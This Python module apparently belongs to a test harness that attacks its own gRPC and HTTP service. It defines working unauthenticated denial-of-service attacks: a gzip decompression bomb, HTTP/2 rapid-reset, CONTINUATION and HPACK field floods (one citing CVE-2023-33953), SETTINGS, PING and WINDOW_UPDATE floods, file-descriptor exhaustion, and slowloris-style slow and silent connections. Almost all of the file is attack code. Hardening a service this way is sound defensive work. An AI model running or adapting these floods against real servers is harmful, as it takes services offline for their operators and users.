"""Attacks by anybody who reaches the port, without a token."""

from __future__ import annotations

import contextlib
import gzip
import time

from attack.means import attack, flood, stream_ids, together, unary, until
from attack.wire import (
    COMPUTE,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SERVICE,
    SETTINGS,
    WINDOW_UPDATE,
    Target,
    Wire,
    call_head,
    frame,
    literal,
    message,
)


@attack
def gzip_bomb(target: Target, seconds: float) -> None:
    bomb = message(gzip.compress(bytes(1 << 29), 9), compressed=True)  # half a MB for half a GiB
    head = call_head(COMPUTE, None, grpc_encoding="gzip")
    unary(target, seconds, head, bomb)


@attack
def rapid_reset(target: Target, seconds: float) -> None:
    head = call_head(COMPUTE, None)
    reset = b"\0\0\0\x08"

    def batch(number: int) -> bytes:
        ids = stream_ids(number, 500)
        return b"".join(frame(HEADERS, END_HEADERS, i, head) + frame(RST_STREAM, 0, i, reset) for i in ids)

    flood(target, seconds, batch)


@attack
def continuation_flood(target: Target, seconds: float) -> None:
    part = frame(CONTINUATION, 0, 1, literal("x", "y" * 1000) * 16)
    first = frame(HEADERS, 0, 1, call_head(COMPUTE, None))
    flood(target, seconds, lambda number: part * 64 if number else first)


@attack
def endless_field(target: Target, seconds: float) -> None:
    """CVE-2023-33953: a field that says it is huge and comes in drops."""
    first = frame(HEADERS, 0, 1, b"\0\x01x\x7f\xff\xff\xff\x7f")
    drop = frame(CONTINUATION, 0, 1, b"a" * 100)
    flood(target, seconds, lambda number: drop * 200 if number else first)


@attack
def bad_paths(target: Target, seconds: float) -> None:
    head = call_head("/no.such.Service/Method" + "x" * 1000, None)

    def batch(number: int) -> bytes:
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, head) for i in stream_ids(number, 200))

    flood(target, seconds, batch)


@attack
def settings_flood(target: Target, seconds: float) -> None:
    flood(target, seconds, lambda _: frame(SETTINGS, 0, 0) * 1000)


@attack
def ping_with_data(target: Target, seconds: float) -> None:
    """A DATA frame forgives a PING too many."""
    head = frame(HEADERS, END_HEADERS, 1, call_head(SERVICE + "StreamSignals", None))
    pair = frame(PING, 0, 0, b"12345678") + frame(DATA, 0, 1)
    flood(target, seconds, lambda number: pair * 1000 if number else head)


@attack
def idle_frames(target: Target, seconds: float) -> None:
    update = frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")
    flood(target, seconds, lambda _: update * 2000)


@attack
def empty_parts(target: Target, seconds: float) -> None:
    """Two bytes each, without a token."""
    body = message(b"\x12\0" * (8 << 20))

    def one(_: int) -> None:
        for _ in until(seconds):
            wire = Wire(target)
            wire.send(frame(HEADERS, END_HEADERS, 1, call_head(COMPUTE, None)))
            if wire.send_data(1, body):
                wire.read(1)
            wire.close()

    together(4, one)


@attack
def connections(target: Target, seconds: float) -> None:
    """More than there are descriptors for, saying nothing."""
    held: list[Wire] = []
    for _ in until(seconds):
        with contextlib.suppress(OSError):
            held.append(Wire(target, preface=False, tls=False))
        if len(held) >= 2000:
            time.sleep(0.1)
    for wire in held:
        wire.close()


def _silent(target: Target, port: int, seconds: float, beginning: bytes) -> None:
    held = []
    for _ in range(400):
        with contextlib.suppress(OSError):
            wire = Wire(target, port, preface=False, tls=False)
            wire.send(beginning)
            held.append(wire)
    time.sleep(seconds)
    for wire in held:
        wire.close()


@attack
def silent_http(target: Target, seconds: float) -> None:
    _silent(target, target.http_port, seconds, b"")


@attack
def slow_head(target: Target, seconds: float) -> None:
    _silent(target, target.http_port, seconds, b"POST /v1/signals HTTP/1.1\r\nHost: local")


@attack
def silent_metrics(target: Target, seconds: float) -> None:
    _silent(target, target.metrics_port, seconds, b"")


@attack
def body_without_token(target: Target, seconds: float) -> None:
    def one(_: int) -> None:
        for _ in until(seconds):
            wire = Wire(target, target.http_port, preface=False, tls=False)
            wire.send(b"POST /v1/signals HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000000\r\n\r\n")
            for _ in range(60):
                if not wire.send(bytes(1000000)):
                    break
            wire.close()

    together(8, one)


@attack
def lines(target: Target, seconds: float) -> None:
    """Streams that are refused, each of which would be a line of the log."""
    head = call_head(SERVICE + "StreamSignals", None)

    def batch(number: int) -> bytes:
        return b"".join(frame(HEADERS, END_HEADERS, i, head) for i in stream_ids(number, 100))

    flood(target, seconds, batch)
